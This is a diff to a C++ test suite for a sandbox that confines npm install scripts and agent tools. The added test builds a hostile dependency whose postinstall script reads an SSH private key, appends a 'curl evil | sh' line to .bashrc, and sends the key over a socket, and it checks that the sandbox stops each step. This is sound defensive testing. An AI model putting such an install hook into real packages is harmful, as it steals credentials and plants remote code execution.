@@ -5,8 +5,14 @@
 #include "process/Sandbox.h"
 #include "support/Text.h"
 
+#include <arpa/inet.h>
 #include <filesystem>
 #include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <thread>
+#include <unistd.h>
 
 namespace fs = std::filesystem;
 using namespace tarn;
@@ -85,20 +91,49 @@ TEST_F(Sandbox, TheDevServerWritesItsProjectAndReadsNoKey) {
 }
 
 TEST_F(Sandbox, AnInstallScriptCannotReadTheHomeFolder) {
+    // What it read, sent to a port of ours: the network stays, so what matters is what it carries.
+    const int listener = ::socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in address{};
+    address.sin_family = AF_INET;
+    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t length = sizeof address;
+    ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
+    ASSERT_EQ(::listen(listener, 4), 0);
+    ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length);
+    std::string received;
+    std::thread receiver([&] {
+        pollfd waiting{listener, POLLIN, 0};
+        if (::poll(&waiting, 1, 60000) <= 0) return;
+        const int peer = ::accept(listener, nullptr, nullptr);
+        char buffer[4096];
+        for (ssize_t n; (n = ::read(peer, buffer, sizeof buffer)) > 0;) received.append(buffer, static_cast<std::size_t>(n));
+        ::close(peer);
+    });
+
     // A dependency from the test tree whose install script tries what the npm worms of 2025 did.
     const fs::path package = repo / "vendor" / "thief";
     writeFile(package / "package.json", R"({"name": "thief", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}})");
-    writeFile(package / "steal.js", "const fs = require('fs');\n"
+    writeFile(package / "steal.js", "const fs = require('fs'), net = require('net');\n"
                                     "let got = 'nothing';\n"
                                     "try { got = fs.readFileSync('" + (home / ".ssh/id_ed25519").string() + "', 'utf8'); } catch (e) { got = e.code; }\n"
-                                    "fs.writeFileSync(process.env.INIT_CWD + '/loot.txt', got);\n");
+                                    "for (const p of ['" + (home / ".bashrc").string() + "', '" + (dir.path() / "beside.txt").string() + "']) {\n"
+                                    "  try { fs.appendFileSync(p, 'curl evil | sh\\n'); } catch (e) {}\n"
+                                    "}\n"
+                                    "fs.writeFileSync(process.env.INIT_CWD + '/loot.txt', got);\n"
+                                    "const s = net.connect(" + std::to_string(ntohs(address.sin_port)) + ", '127.0.0.1', () => s.end(got));\n"
+                                    "s.on('error', () => {});\n");
     writeFile(project / "package.json", R"({"name": "app", "version": "1.0.0", "dependencies": {"thief": "file:)" + package.string() + R"("}})");
     std::vector<std::string> lines;
     runTask(ProjectBootstrapService().installDependenciesIfNeeded(
         context("npm install --offline --no-audit --no-fund", "true"), [&](const std::string& l) { lines.push_back(l); }));
+    receiver.join();
+    ::close(listener);
     ASSERT_TRUE(fs::exists(project / "loot.txt")) << testing::PrintToString(lines);
     EXPECT_EQ(readFile(project / "loot.txt"), "ENOENT");
     EXPECT_TRUE(fs::is_directory(project / "node_modules" / "thief"));
+    EXPECT_FALSE(fs::exists(home / ".bashrc"));
+    EXPECT_FALSE(fs::exists(dir.path() / "beside.txt"));
+    EXPECT_EQ(received, "ENOENT");
 }
 
 TEST_F(Sandbox, AFailureOnAHiddenPathNamesItAndTheSetting) {
@@ -114,4 +149,11 @@ TEST_F(Sandbox, AFailureOnAHiddenPathNamesItAndTheSetting) {
     EXPECT_FALSE(sandbox::explain("Error: ENOENT, open '" + (project / "src/missing.js").string() + "'", project.string()));
     EXPECT_FALSE(sandbox::explain("EACCES " + (home / ".npm/_cacache").string(), project.string()));
     EXPECT_FALSE(sandbox::explain("zsh: command not found: pnpm", project.string()));
+
+    // An agent tool's own folders are its to use; the rest of the home folder is not.
+    fs::create_directories(home / ".claude");
+    EXPECT_FALSE(sandbox::explainAgentTool("EACCES '" + (home / ".claude/settings.json").string() + "'", project.string(), {}));
+    hint = sandbox::explainAgentTool("fatal: unable to access '" + (home / ".gitconfig").string() + "'", project.string(), {});
+    ASSERT_TRUE(hint);
+    EXPECT_TRUE(text::contains(*hint, "“Run Agent Tools in a Sandbox”")) << *hint;
 }
